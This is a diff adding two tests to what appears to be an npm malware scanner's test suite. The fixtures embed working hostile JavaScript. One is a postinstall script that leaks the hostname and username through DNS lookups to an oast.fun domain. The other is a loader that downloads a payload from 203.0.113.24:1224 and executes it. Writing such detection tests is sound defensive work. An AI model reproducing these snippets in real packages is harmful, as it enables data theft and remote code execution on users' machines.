@@ -127,3 +127,32 @@ def test_scoped_fork_of_a_popular_package_is_weaker_than_a_look_alike_name() -> 
     _, squat = verdict(npm_tgz("esbulid", "0.14.39", files, scripts={"postinstall": "node install.js"}))
     assert "package.typosquat:medium" in fork and fork_verdict != "malicious", fork
     assert "package.typosquat:high" in squat, squat
+
+
+def test_dependency_confusion_recon_over_dns_at_install() -> None:
+    recon = ('const os = require("os"); const dns = require("dns");\n'
+             'const data = Buffer.from(os.hostname() + "|" + os.userInfo().username).toString("hex");\n'
+             'data.match(/.{1,60}/g).forEach((c, i) => dns.lookup(`${i}.${c}.d3x8f.oast.fun`, () => {}));\n')
+    data = npm_tgz("acme-internal-config", "99.1.0", {"index.js": recon}, scripts={"postinstall": "node index.js"})
+    v, strong = verdict(data)
+    assert v == "malicious", strong
+    assert "package.install-beacon:critical" in strong
+    benign = npm_tgz("dns-cache-lite", "1.2.0", {"index.js": 'const dns = require("dns");\n'
+                                                           'module.exports = (h, cb) => dns.lookup(h, cb);\n'})
+    assert verdict(benign)[0] == "clean"
+
+
+def test_contagious_interview_style_loader_required_by_main() -> None:
+    loader = ('const fs = require("fs"), os = require("os"), path = require("path"), request = require("request");\n'
+              'const ex = require("child_process").exec;\n'
+              'const u = "http://" + "203.0.113.24" + ":1224";\n'
+              'function dl() {\n'
+              '  const p = path.join(os.homedir(), ".npl");\n'
+              '  request.get(u + "/client/99", (e, r, body) => { fs.writeFileSync(p, body); ex(`python3 "${p}"`); });\n'
+              '}\n'
+              'dl();\n')
+    data = npm_tgz("react-icon-kit-pro", "1.0.3", {"index.js": "module.exports = require('./lib/util.js');\n",
+                                                  "lib/util.js": loader})
+    v, strong = verdict(data)
+    assert v == "malicious", strong
+    assert "package.download-exec:critical" in strong
